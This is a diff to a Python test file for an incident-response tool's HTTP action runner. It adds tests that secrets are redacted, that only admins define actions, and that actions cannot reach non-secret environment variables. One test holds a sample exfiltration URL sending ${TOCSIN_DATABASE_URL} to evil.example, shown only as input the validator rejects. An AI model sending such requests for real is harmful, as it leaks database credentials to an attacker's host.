@@ -11,7 +11,7 @@ from tests.fakes import FakeActionRunner
 from tests.unit.test_bus import ALICE, CATALOG, Harness
 from tocsin.adapters.action_runner import HttpxActionRunner
 from tocsin.domain import commands as c
-from tocsin.domain.actions import HttpCall, HttpOutcome, shown_headers
+from tocsin.domain.actions import CheckSpec, HttpCall, HttpOutcome, clean_action, shown_headers
 from tocsin.domain.actors import Actor
 from tocsin.domain.errors import InvalidInput, InvalidTransition, PermissionDenied
 from tocsin.domain.roles import Role
@@ -155,11 +155,13 @@ def _runner(environ: dict[str, str]) -> tuple[HttpxActionRunner, list[httpx.Requ
 
 
 def test_the_runner_renders_the_body_and_redacts_every_secret_value() -> None:
-    runner, seen = _runner({"TOKEN": "tok-123456", "HOST": "ops.example"})
+    runner, seen = _runner(
+        {"TOCSIN_SECRET_TOKEN": "tok-123456", "TOCSIN_SECRET_HOST": "ops.example"}
+    )
     call = HttpCall(
         "POST",
-        "https://${HOST}/flags?key=${TOKEN}",
-        {"Authorization": "Bearer ${TOKEN}", "X-Literal-Secret": "lit-999999"},
+        "https://${TOCSIN_SECRET_HOST}/flags?key=${TOCSIN_SECRET_TOKEN}",
+        {"Authorization": "Bearer ${TOCSIN_SECRET_TOKEN}", "X-Literal-Secret": "lit-999999"},
         '{"incident": "{{ reference }}", "services": {{ services|tojson }}}',
         5,
         {"reference": "INC-7", "services": ["checkout"]},
@@ -176,8 +178,10 @@ def test_the_runner_renders_the_body_and_redacts_every_secret_value() -> None:
 
 def test_the_runner_reports_template_and_secret_problems_without_calling() -> None:
     runner, seen = _runner({})
-    missing = runner.execute(HttpCall("POST", "https://x/${NOPE}", {}, "", 5, {}))
-    assert missing == HttpOutcome(None, 0, error="the environment variable NOPE is not set")
+    missing = runner.execute(HttpCall("POST", "https://x/${TOCSIN_SECRET_NOPE}", {}, "", 5, {}))
+    assert missing == HttpOutcome(
+        None, 0, error="the environment variable TOCSIN_SECRET_NOPE is not set"
+    )
     broken = runner.execute(HttpCall("POST", "https://x/", {}, "{{ nothing.here }}", 5, {}))
     assert broken.status_code is None and "the body template failed" in broken.error
     sandboxed = runner.execute(
@@ -185,3 +189,32 @@ def test_the_runner_reports_template_and_secret_problems_without_calling() -> No
     )
     assert sandboxed.status_code is None and "the body template failed" in sandboxed.error
     assert seen == []
+
+
+def test_actions_may_only_use_action_secrets_and_checks_none() -> None:
+    with pytest.raises(InvalidInput, match=r"\$\{TOCSIN_DATABASE_URL\} is not an action secret"):
+        clean_action("leak", "GET", "https://evil.example/?d=${TOCSIN_DATABASE_URL}")
+    with pytest.raises(InvalidInput, match="headers.X-Key"):
+        clean_action("leak", "GET", "https://ok.example/", headers={"X-Key": "${HOME}"})
+    with pytest.raises(InvalidInput, match="body"):
+        clean_action("leak", "POST", "https://ok.example/", body="${PATH}")
+    fine = clean_action("ok", "GET", "https://ok.example/", headers={"A": "${TOCSIN_SECRET_A}"})
+    assert fine.headers == {"A": "${TOCSIN_SECRET_A}"}
+    with pytest.raises(InvalidInput, match="cannot use"):
+        CheckSpec(url="https://ok.example/?k=${TOCSIN_SECRET_A}")
+    # A definition stored before the rule still cannot reach other variables at run time.
+    runner = HttpxActionRunner({"TOCSIN_DATABASE_URL": "postgresql://secret"})
+    outcome = runner.execute(HttpCall("GET", "https://x/${TOCSIN_DATABASE_URL}", {}, "", 5, {}))
+    assert outcome.error == "TOCSIN_DATABASE_URL is not an action secret (TOCSIN_SECRET_…)"
+
+
+def test_only_admins_define_actions(h: Harness) -> None:
+    spec = c.ActionSpec("flag-off", "POST", "https://flags.example/off", requires_approval=False)
+    responder = Actor("Rita", user_id=7, person_id=7)
+    with pytest.raises(PermissionDenied, match="defining actions .* needs an admin"):
+        h.bus.handle(c.SaveAction(spec, responder))
+    book = c.RunbookSpec("x", "X", "- [ ] step", actions=(spec,))
+    with pytest.raises(PermissionDenied, match="needs an admin"):
+        h.bus.handle(c.ImportRunbooks((book,), responder))
+    h.bus.handle(c.ImportRunbooks((c.RunbookSpec("x", "X", "- [ ] step"),), responder))
+    h.bus.handle(c.SaveAction(spec, Actor("Ada", user_id=8, admin=True)))
